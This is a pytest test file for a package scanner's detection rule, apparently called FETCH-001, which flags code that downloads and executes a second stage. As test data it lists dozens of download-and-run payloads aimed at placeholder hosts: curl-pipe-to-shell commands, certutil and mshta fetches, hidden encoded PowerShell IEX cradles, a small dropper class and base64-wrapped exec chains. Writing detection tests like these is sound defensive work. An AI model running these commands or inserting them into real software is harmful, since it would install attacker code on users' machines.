"""FETCH-001: a second stage that comes from the network."""

from __future__ import annotations

import base64
import textwrap

import pytest

from assay.rules.fetch_001_second_stage import RULE
from tests.behaviour import at, findings, worst

HEAD = "import os, subprocess, requests, base64, sys, tempfile, urllib.request\n"
URL = "https://example.invalid/a"


def _utf16(text: str) -> str:
    """Return a command as PowerShell takes encoded ones."""
    return base64.b64encode(text.encode("utf-16-le")).decode()


RUN_AS_IT_COMES = [
    f"exec(requests.get('{URL}').text)",
    f"eval(compile(urllib.request.urlopen('{URL}').read(), 'a', 'exec'))",
    f"r = requests.get('{URL}')\nif r.ok:\n    c = r.text.strip()\n    exec(c)",
    f"def get():\n    return requests.get('{URL}').text\ndef run(c):\n    exec(c)\nrun(get())",
    f"getattr(__builtins__, 'ex' + 'ec')(requests.get('{URL}').text)",
    "exec(requests.get(base64.b64decode('aHR0cHM6Ly9leGFtcGxlLmludmFsaWQ=')).text)",
    f"exec(base64.b64decode(requests.get('{URL}').content))",
    f"exec(subprocess.check_output(['curl', '-s', '{URL}']))",
    f"exec(subprocess.run('wget -qO- {URL}', shell=True, capture_output=True).stdout)",
]
STARTED_FROM_A_FIXED_ADDRESS = [
    f"open('x.exe', 'wb').write(requests.get('{URL}.exe').content)\nos.startfile('x.exe')",
    (
        f"p = os.path.join(os.getenv('TEMP'), 'prog.exe')\nopen(p, 'wb').write(requests.get('{URL}.exe').content)\n"
        "subprocess.Popen([p])"
    ),
    f"urllib.request.urlretrieve('{URL}.sh', '/tmp/.prog.sh')\nos.system('chmod +x /tmp/.prog.sh && /tmp/.prog.sh')",
    (
        f"with open('stage.py', 'w') as f:\n    f.write(requests.get('{URL}.py').text)\n"
        "subprocess.call([sys.executable, 'stage.py'])"
    ),
    (
        f"from pathlib import Path\nPath('/tmp/prog.elf').write_bytes(requests.get('{URL}.elf').content)\n"
        "subprocess.run('/tmp/prog.elf &', shell=True)"
    ),
    f"import ctypes\nopen('x.dll', 'wb').write(requests.get('{URL}.dll').content)\nctypes.CDLL('./x.dll')",
]
STARTED_FROM_A_FIXED_ADDRESS += [
    f"subprocess.call('curl {URL}.exe -o prog.exe', shell=True)\nos.system('prog.exe')",
    f"os.system('powershell -c Invoke-WebRequest -Uri {URL}.exe -OutFile prog.exe')\nos.system('start prog.exe')",
    f"os.system('wget {URL}.sh -O /tmp/prog.sh')\nsubprocess.run(['sh', '/tmp/prog.sh'])",
]
BARE = "http://203.0.113.9/a"
FROM_A_PLACE_FOR_PICK_UP = [
    f"n = requests.get('{BARE}').text\nopen(n, 'wb').write(requests.get('{BARE}').content)\nos.system('./' + n)",
    f"c = requests.get('{BARE}').text\nsubprocess.Popen(f'powershell.exe -Command {{c}}', shell=True)",
    f"open('prog.bin', 'wb').write(requests.get('{BARE}').content)\nos.system('start prog.bin')",
    (
        "class Dropper:\n    def find(self):\n        return requests.get('https://pastebin.com/raw/a').text\n"
        "    def fetch(self, url):\n        p = 'C:/Users/a/prog.bin'\n"
        "        open(p, 'wb').write(requests.get(url).content)\n        return p\n"
        "d = Dropper()\nos.system('start ' + d.fetch(d.find()))"
    ),
]
UNPACKED = [
    (
        f"import zipfile\np = os.getenv('LOCALAPPDATA')\nz = p + '/here.zip'\n"
        f"open(z, 'wb').write(requests.get('{URL}').content)\n"
        "zipfile.ZipFile(z).extractall(p + '/folder')\nos.system('py ' + p + '/folder/main.py')"
    ),
]
HIDDEN_POWERSHELL = [
    "subprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand " + "QQBCAEMARABFAEYARwBIAEkA" * 2 + "')",
    "os.system('powershell.exe -nop -w hidden -c \"iex (iwr https://example.invalid/a)\"')",
    "os.system('echo bHMK | base64 -d | bash')",
    "subprocess.run(['sh', '-c', 'echo bHMK | base64 --decode | /bin/sh'])",
    "subprocess.run(['powershell', '-enc', '" + "QQBCAEMARABFAEYARwBIAEkA" * 2 + "'])",
    f"subprocess.run(['powershell', '-enc', '{_utf16('Get-Command a; iex b')}'])",
]
RUN_BY_OTHERS = [
    f"os.system('curl -s {URL} | bash')",
    f"os.system('wget -qO- {URL} | sudo /bin/sh')",
    f"subprocess.run('bash -c \"$(curl -fsSL {URL})\"', shell=True)",
    f"subprocess.run(['bash', '-c', 'curl {URL} | sh'])",
    f"os.system('curl -o /tmp/a {URL} && chmod +x /tmp/a && /tmp/a')",
    f"os.system('mshta {URL}.hta')",
    f"os.system('certutil -urlcache -split -f {URL} a.exe')",
    f"os.system('powershell -c \"IEX (New-Object Net.WebClient).DownloadString(\\'{URL}\\')\"')",
]


@pytest.mark.parametrize(
    "source", RUN_AS_IT_COMES + STARTED_FROM_A_FIXED_ADDRESS + HIDDEN_POWERSHELL + FROM_A_PLACE_FOR_PICK_UP
)
def test_what_is_never_innocent(source: str) -> None:
    assert worst(RULE, *at("install", HEAD + source)) == "critical"
    assert worst(RULE, *at("import", HEAD + source)) == "high"
    assert worst(RULE, *at("call", HEAD + source)) == "high"


@pytest.mark.parametrize("source", RUN_BY_OTHERS + UNPACKED)
def test_what_installers_do_when_they_are_called(source: str) -> None:
    assert worst(RULE, *at("install", HEAD + source)) == "critical"
    assert worst(RULE, *at("import", HEAD + source)) == "high"
    assert worst(RULE, *at("call", HEAD + source)) == "medium"


@pytest.mark.parametrize(
    "source",
    [
        (
            f"f = tempfile.NamedTemporaryFile(delete=False)\nf.write(requests.get('{URL}').content)\n"
            "subprocess.Popen([f.name])"
        ),
        f"p = unknown\nopen(p, 'wb').write(requests.get('{URL}').content)\nsubprocess.Popen(p)",
        f"urllib.request.urlretrieve('{URL}')\nos.system(f'start {{unknown}}')",
        f"from git import Repo\nRepo.clone_from('{URL}.git', '/srv/demo')\nsubprocess.run(['python', 'demo.py'])",
    ],
)
def test_a_file_without_a_known_name_counts_unasked(source: str) -> None:
    assert worst(RULE, *at("install", HEAD + source)) == "critical"
    assert worst(RULE, *at("import", HEAD + source)) == "high"
    assert worst(RULE, *at("call", HEAD + source)) in ("medium", "none")


@pytest.mark.parametrize(
    ("source", "when_imported", "when_called"),
    [
        ("os.system('pip install abc')", "medium", "none"),
        ("subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'abc'])", "medium", "none"),
        ("os.system(f'{sys.executable} -m pip install abc')", "medium", "none"),
        ("import pip\npip.main(['install', 'abc'])", "medium", "none"),
        ("os.system('pip install git+https://example.invalid/a.git')", "high", "low"),
        ("os.system('pip install --index-url https://example.invalid/ abc')", "high", "low"),
        ("os.system('npm install https://example.invalid/a.tgz')", "high", "low"),
        ("os.system('pip install -r requirements.txt')", "none", "none"),
        ("os.system('pip install .')", "none", "none"),
        ("os.system('pip --version')", "none", "none"),
        (f"os.system('curl -O {URL}')", "medium", "none"),
    ],
)
def test_packages_and_downloads_by_other_programs(source: str, when_imported: str, when_called: str) -> None:
    assert worst(RULE, *at("import", HEAD + source)) == when_imported
    assert worst(RULE, *at("call", HEAD + source)) == when_called


@pytest.mark.parametrize(
    "source",
    [
        f"print(requests.get('{URL}').text)",
        f"open('model.bin', 'wb').write(requests.get('{URL}.bin').content)",
        "exec('a = 1')",
        f"requests.get('{URL}.exe')",
        f"open('data.json', 'wb').write(requests.get('{URL}').content)\nsubprocess.run(['git', 'describe'])",
        f"import ast\nast.parse(requests.get('{URL}').text)",
        f"import json\njson.loads(requests.get('{URL}').text)",
        "os.system('base64 -d a.txt > a.bin')",
        "subprocess.run(['powershell', '-Command', 'Get-Item .'])",
        f"subprocess.run(['powershell', '-enc', '{_utf16('(Get-Command demo).Path')}'])",
        "subprocess.run(['powershell', '-Command', 'Start-Process cmd -WindowStyle Hidden -Verb RunAs'])",
        "subprocess.run('curl --version | head -1', shell=True)",
        "exec(subprocess.check_output(['demo-config', '--python']))",
        "text = subprocess.check_output(['curl', '--version'])\nexec('x = 1')",
        "import pickle\npickle.loads(open('a', 'rb').read())",
        f"text = 'curl {URL} | sh'",
        f"raise RuntimeError('run: curl {URL} | sh')",
        f"open('x.exe', 'wb').write(requests.get('{URL}.exe').content)\nprint('x.exe')",
    ],
)
def test_near_misses(source: str) -> None:
    assert worst(RULE, *at("import", HEAD + source)) == "none"


@pytest.mark.parametrize(
    "source",
    [
        # a driver that is fetched in a version of the user's choice, unpacked, and started by another function
        f"""
        import zipfile, io
        def install(version):
            data = requests.get('{URL}/' + version + '.zip').content
            zipfile.ZipFile(io.BytesIO(data)).extractall('drivers')
        def start(path):
            return subprocess.Popen([path, '--port', '1'])
        """,
        # data of a language, as toolkits fetch them
        f"""
        def download(name, folder):
            urllib.request.urlretrieve('{URL}/' + name, os.path.join(folder, name))
        def tag(text):
            return subprocess.run(['tagger', text])
        """,
        # weights of a network
        f"""
        def load(url='{URL}.pth'):
            path = os.path.join(os.path.expanduser('~/.cache'), os.path.basename(url))
            open(path, 'wb').write(requests.get(url).content)
            return path
        """,
    ],
)
def test_downloads_for_whoever_asks(source: str) -> None:
    assert worst(RULE, {"demo/__init__.py": HEAD + textwrap.dedent(source)}) in ("none", "low")


def test_a_chain_in_decoded_code_is_critical_wherever_it_runs() -> None:
    inner = base64.b64encode(f"import requests\nexec(requests.get('{URL}').text)".encode()).decode()
    assert worst(RULE, *at("call", f"import base64\nexec(base64.b64decode('{inner}'))")) == "critical"


def test_tests_are_two_steps_lower() -> None:
    assert worst(RULE, *at("test", HEAD + RUN_AS_IT_COMES[0])) in ("low", "medium")


def test_the_finding_says_what_is_fetched_and_how() -> None:
    (found,) = findings(RULE, *at("import", HEAD + STARTED_FROM_A_FIXED_ADDRESS[0]))
    assert found.message == "demo 1.0 fetches a program and starts it"
    assert found.location
    assert found.location.line == 3
    assert found.evidence == ("https://example.invalid/a.exe is written to x.exe and started: os.startfile('x.exe')",)


@pytest.mark.parametrize("text", ["curl ", "mkfifo a sh ", "wget http://a/ -o ", "certutil ", "powershell -w hidden "])
def test_a_command_of_any_length_is_read_in_no_time(text: str) -> None:
    assert worst(RULE, *at("import", f"import os\nos.system({text * 20_000!r})")) in ("none", "medium", "high")


@pytest.mark.parametrize(
    ("source", "severity"),
    [
        ("os.system('curl {URL} -o /tmp/a')\n    os.system('/tmp/a')", "high"),
        ("os.system('curl {URL} -o /tmp/a')\n    os.system('/tmp/ab')", "none"),
        ("os.system('curl {URL} -o /dev/null')\n    os.system('prog > /dev/null')", "none"),
        ("os.system('curl {URL} -o /tmp/a')\n    os.system('make /tmp/a')", "medium"),
    ],
)
def test_functions_of_setup_have_no_other_caller_than_a_build(source: str, severity: str) -> None:
    text = f"import os\ndef use():\n    {source.replace('{URL}', URL)}\n"
    assert worst(RULE, {"setup.py": text}, "sdist") == severity


def test_pickles_from_the_network_are_code_where_nobody_asks_for_them() -> None:
    source = HEAD + f"import pickle\npickle.loads(requests.get('{URL}').content)"
    assert [worst(RULE, *at(trigger, source)) for trigger in ("install", "import", "call")] == [
        "critical",
        "high",
        "none",
    ]
